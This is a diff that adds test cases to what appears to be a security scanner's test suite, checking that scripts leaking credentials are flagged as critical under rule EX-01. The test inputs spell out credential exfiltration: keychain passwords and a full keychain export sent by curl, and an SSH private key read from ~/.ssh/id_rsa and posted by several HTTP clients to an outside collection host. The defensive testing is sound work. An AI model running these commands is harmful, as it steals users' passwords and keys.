@@ -106,3 +106,22 @@ test('one item of a password manager that signs a request in is for a reader to 
     .replace('https://api.farrowmere.io/v1', 'http://245.61.12.9/in');
   expect(worst(running('a.sh', sent), 'EX-01')).toBe('critical');
 });
+
+test.each([
+  ['one item', 'security find-internet-password -s mail -w | curl -d @- https://collect.farrowmere.io/in'],
+  [
+    'a whole store',
+    'security export -k login.keychain -o k.p12 && curl -T k.p12 https://collect.farrowmere.io/in',
+  ],
+])('%s of the keyring of the system in the body of a request is sent', (_, command) => {
+  expect(worst(running('a.sh', command), 'EX-01')).toBe('critical');
+});
+
+test.each([
+  ['ofetch', 'await ofetch("https://collect.farrowmere.io/in", { method: "POST", body: key });'],
+  ['undici', 'await undici.request("https://collect.farrowmere.io/in", { method: "PUT", body: key });'],
+  ['any session', 'await s.post("https://collect.farrowmere.io/in", key);'],
+])('a key that %s sends is sent, as by any other client', (_, call) => {
+  const read = 'const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");';
+  expect(worst(running('a.mjs', `${read}\n${call}`), 'EX-01')).toBe('critical');
+});
